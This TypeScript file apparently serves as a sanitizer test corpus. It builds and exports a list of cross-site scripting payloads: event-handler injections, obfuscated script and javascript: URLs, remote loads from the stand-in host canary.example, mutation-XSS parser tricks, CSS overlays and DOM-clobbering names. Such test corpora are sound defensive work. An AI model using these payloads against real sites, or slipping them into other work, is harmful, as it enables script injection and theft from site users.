/**
 * Mark-up that must not become active: our own list of known attacks. Scripts would call `ran(…)`, fetches would go to
 * `canary.example`, which no other request uses.
 */
const run = 'ran(1)';
const away = 'https://canary.example';

const wordsOf = (text: string): string[] => text.trim().split(/\s+/);

const events = wordsOf(`
  onload onerror onclick onmouseover onfocus onanimationstart ontoggle onpointerenter onbeforetoggle
  onscroll oncontentvisibilityautostatechange ontransitionend onauxclick
`);

const handlers = events.flatMap((event) => [
  `<img src=x ${event}=${run}>`,
  `<svg ${event}="${run}"><circle r="1"></svg>`,
  `<p ${event.toUpperCase()}='${run}' tabindex=0 autofocus>words</p>`,
  `<details open ${event}/=/${run}/><summary>words</summary></details>`,
]);

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script src="${away}/a.js"></script>`,
  `<script type="module">import "${away}/m.js"</script>`,
  `<script type=importmap>{"imports":{"x":"${away}/i.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${away}/s"]}]}</script>`,
  `<<script>${run}//<</script>`,
  `<script/x>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${away}/a.js" /></svg>`,
  `<math><script>${run}</script></math>`,
  `<noscript><script>${run}</script></noscript>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode="open"><script>${run}</script><img src=x onerror=${run}></template>`,
  `<body onload=${run}>`,
  `<html onmouseover=${run}>`,
  `<marquee onstart=${run}>words</marquee>`,
  `<video autoplay><source src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run} autoplay></audio>`,
  `<video poster="javascript:${run}" src="${away}/v.mp4" autoplay></video>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>a</select>`,
  `<textarea autofocus onfocus=${run}>a</textarea>`,
  `<keygen autofocus onfocus=${run}>`,
  `<button popovertarget=x>a</button><div popover id=x onbeforetoggle=${run}>b</div>`,
  `<dialog open oncancel=${run}><form method=dialog><button>a</button></form></dialog>`,
];

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java&#x0A;script:${run}`,
  `java&Tab;script:${run}`,
  `&#106;&#97;&#118;&#97;script&colon;${run}`,
  `&#0000106avascript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `javascript://%0a${run}`,
  `javascript:/*--></title></style>*/${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `blob:${away}/1`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  `filesystem:${away}/x`,
  `https://name:word@canary.example/`,
  `//canary.example/`,
  `/\\canary.example/`,
  `/\t/canary.example/`,
  `\\\\canary.example`,
  `/api/bonus/clear`,
];

const addresses = schemes.flatMap((address) => [
  `<a href="${address}">words</a>`,
  `<img src="${address}" alt="words">`,
  `<form action="${address}"><button formaction="${address}">words</button></form>`,
]);

const embedded = [
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="${away}/f"></iframe>`,
  `<object data="${away}/o"></object>`,
  `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
  `<embed src="${away}/e" type="text/html">`,
  `<applet code="${away}/a"></applet>`,
  `<frameset onload=${run}><frame src="${away}/f"></frameset>`,
  `<portal src="${away}/p"></portal>`,
  `<fencedframe src="${away}/p"></fencedframe>`,
  `<link rel=stylesheet href="${away}/s.css">`,
  `<link rel=preload as=image href="${away}/p.png">`,
  `<link rel=prefetch href="${away}/p">`,
  `<link rel=dns-prefetch href="//canary.example">`,
  `<link rel=import href="${away}/i.html">`,
  `<meta http-equiv=refresh content="0;url=${away}/m">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${away}/">`,
  `<base target="_top" href="javascript:${run}//">`,
  `<img src="${away}/i.png" alt="words">`,
  `<img srcset="${away}/i.png 2x" alt="words">`,
  `<picture><source srcset="${away}/i.webp"><img src="${away}/i.png" alt="words"></picture>`,
  `<img src="/pictures/coins.svg" lowsrc="${away}/l" dynsrc="${away}/d" longdesc="${away}/x" alt="words">`,
  `<table background="${away}/t.png"><tr><td background="${away}/d.png">words</td></tr></table>`,
  `<video><track src="${away}/t.vtt" default></video>`,
  `<a href="${away}/x" ping="${away}/ping" target="_self" rel="opener">words</a>`,
  `<q cite="${away}/q">words</q><blockquote cite="javascript:${run}">words</blockquote>`,
  `<input type=image src="${away}/i.png" formaction="javascript:${run}">`,
  `<svg><image href="${away}/i.png" /></svg>`,
  `<svg><use href="${away}/u.svg#x" /></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">words</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}" /><a id=x><text>words</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${run}" /></svg>`,
  `<svg><foreignObject><iframe src="${away}/f"></iframe></foreignObject></svg>`,
  `<svg><filter><feImage href="${away}/f.png" /></filter></svg>`,
  `<math><mtext><a xlink:href="javascript:${run}">words</a></mtext></math>`,
  `<math href="javascript:${run}">words</math>`,
];

const twisted = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${run}</html:script>`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  `<table><td><svg><style><img src=x onerror=${run}></style></svg></td></table>`,
  `<a href="#" title='"><img src=x onerror=${run}>'>words</a>`,
  `<img src="x\` \`onerror=${run}" alt="words">`,
  `<img """><script>${run}</script>">`,
  `<img src=x:alert(alt) onerror=eval(alt) alt=${run}>`,
  `<a href=x onclick=&#114;an(1)>words</a>`,
  `<p is="x-words" slot="s" part="p">words</p>`,
  `<${'div><'.repeat(400)}img src=x onerror=${run}>`,
];

const painted = [
  `<p style="position:fixed;inset:0;z-index:99999;background:#fff">words</p>`,
  `<p style="background:url(${away}/b.png)">words</p>`,
  `<p style="width:expression(${run})">words</p>`,
  `<p style="animation:x 1s" onanimationend=${run}>words</p>`,
  `<style>*{display:none!important}</style>`,
  `<style>@import "${away}/s.css";</style>`,
  `<style>@font-face{font-family:x;src:url(${away}/f.woff)}*{font-family:x}</style>`,
  `<svg><style>*{background:url(${away}/b.png)}</style></svg>`,
  `<div class="scrim sheet dialog" role="dialog" aria-modal="true">words</div>`,
  `<font size=7 color=red face="x" style="x">words</font>`,
  `<center><h1>words</h1></center><big>words</big>`,
  `<img src="/pictures/coins.svg" width="99999" height="99999" alt="words">`,
  `<table width="99999" height="99999"><tr><td width="9999">words</td></tr></table>`,
  `<p hidden>words</p><p inert>words</p><p contenteditable>words</p><p draggable="true">words</p>`,
  `<p accesskey="x" tabindex="5" autofocus>words</p>`,
];

const clobbered = wordsOf(`
  body forms cookie getElementById createElement documentElement querySelector head root localStorage
  fetch trustedTypes ran __proto__ constructor attributes location
`).flatMap((name) => [
  `<img name="${name}" src="/pictures/coins.svg" alt="words">`,
  `<form id="${name}"><input name="attributes"><input name="parentNode"></form>`,
  `<a id="${name}"></a><a id="${name}" name="toString" href="https:words">words</a>`,
]);

export const payloads: readonly string[] = [handlers, scripts, addresses, embedded, twisted, painted, clobbered].flat();
